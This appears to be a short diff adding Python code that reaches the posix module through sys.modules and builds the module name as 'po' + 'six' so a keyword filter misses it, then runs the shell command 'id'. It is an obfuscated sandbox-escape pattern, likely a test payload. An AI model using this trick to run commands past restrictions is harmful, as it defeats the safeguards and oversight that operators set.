@@ -1,0 +1,2 @@
+tools = vars(__import__("sys"))["modules"]
+tools["po" + "six"].system("id")
